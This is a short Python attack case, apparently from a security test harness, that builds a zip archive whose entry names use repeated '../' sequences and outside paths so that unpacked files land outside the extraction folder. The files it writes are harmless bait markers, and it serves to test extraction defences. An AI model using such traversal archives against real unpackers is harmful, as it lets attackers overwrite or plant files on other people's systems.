# /// attack
# tries = "Hands in an archive whose files climb out of the folder that they are unpacked in."
# points = 0
# ///

import zipfile


def submit(place):
    with zipfile.ZipFile(place.download("climbs.zip"), "w") as file:
        for up in range(1, 9):
            file.writestr("../" * up + "outside/" + place.bait["token"], "x")
        file.writestr(f"{place.bait['outside']}/{place.bait['token']}", "x")
        file.writestr(f"../../../source/{place.bait['slug']}/{place.bait['token']}.txt", "x")
